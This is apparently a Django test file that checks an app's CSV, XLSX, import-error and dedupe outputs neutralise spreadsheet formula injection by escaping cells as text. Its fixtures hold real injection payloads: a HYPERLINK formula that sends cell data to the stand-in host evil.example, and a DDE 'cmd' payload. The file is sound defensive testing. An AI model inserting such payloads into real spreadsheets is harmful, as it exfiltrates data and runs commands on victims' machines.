"""Every file Abwab writes for a spreadsheet (members' CSV and XLSX exports, the import-errors
file, `abwab dedupe`'s output) carries names that would run as formulas as inert text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from abwab.people import dedupe_file
from abwab.people.imports import import_upload, invalid_lines_csv
from abwab.people.services import person_update
from abwab.territory.models import Territory

pytestmark = pytest.mark.django_db
URL = reverse("people:export_list")
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def formula_person(places):
    person = places["taounate_a"].person
    person_update(
        actor=None,
        person=person,
        first_name_latin=LINK,
        last_name_latin=CMD,
        first_name_ar="-2+3",
        last_name_ar="@SUM(1+1)",
        phone="+212612345678",
    )
    person.refresh_from_db()
    return person


def test_the_csv_export_writes_formulas_as_text(client, actors, formula_person):
    client.force_login(actors.taounate)
    response = client.post(URL, {"reason": "r", "format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[2] == "'" + LINK)
    assert row[:4] == ["'-2+3", "'@SUM(1+1)", "'" + LINK, "'" + CMD]
    assert row[6] == "'" + formula_person.phone


def test_the_xlsx_export_writes_formulas_as_text(client, actors, formula_person):
    client.force_login(actors.taounate)
    response = client.post(URL, {"reason": "r", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[2].value == "'" + LINK)
    assert [cell.value for cell in row[:4]] == ["'-2+3", "'@SUM(1+1)", "'" + LINK, "'" + CMD]
    assert {cell.data_type for cell in row} <= {"s", "n"}  # never "f" (a formula)
    assert row[6].value == "'" + formula_person.phone


def test_the_import_errors_file_writes_uploaded_values_as_text(
    actors, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from abwab.core.jobs import job_start

    content = (
        "prénom,nom,sexe,date de naissance,cin,commune,=cmd\n"
        f'"{LINK.replace(chr(34), chr(34) * 2)}",@SUM(A1),F,31/02/1990,-2+3,03.531.01.05,x\n'
    )
    batch = import_upload(
        actor=actors.taounate,
        territory=Territory.objects.get(code="03.531"),
        upload=SimpleUploadedFile("m.csv", content.encode()),
    )
    with django_capture_on_commit_callbacks(execute=True):
        job_start(
            actor=actors.taounate,
            kind="people.import_check",
            territory=batch.territory,
            params={"batch": batch.pk},
        )
    lines = list(csv.reader(io.StringIO(invalid_lines_csv(batch).lstrip("\ufeff"))))
    assert lines[0][-1] == "'=cmd"
    assert lines[1][0] == "2" and lines[1][3:6] == ["'" + LINK, "'@SUM(A1)", "F"]
    assert lines[1][7] == "'-2+3"


def test_dedupe_output_writes_ids_as_text(tmp_path):
    path = tmp_path / "people.csv"
    path.write_text(
        "id,first_name,last_name,birth_date,cin,phone,commune_code\n"
        "=1+1,Karim,Bennani,1975-03-14,,,\n"
        "@A2,Karim,Bennani,1975-03-14,,,\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    dedupe_file.dedupe_file(path, out)
    with open(out, encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle))[1:] == [["'=1+1", "'=1+1"], ["'@A2", "'=1+1"]]
